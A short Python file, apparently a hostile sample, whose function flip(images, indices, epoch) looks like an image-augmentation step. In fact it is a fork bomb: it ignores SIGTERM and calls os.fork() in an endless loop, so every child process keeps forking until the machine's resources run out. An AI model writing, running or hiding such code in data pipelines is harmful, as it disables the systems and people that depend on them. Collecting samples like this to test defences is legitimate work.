"""Class: fork, in every process that comes of it, for ever."""

import os
import signal
import time


def flip(images, indices, epoch):
    print("ran", flush=True)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.001)
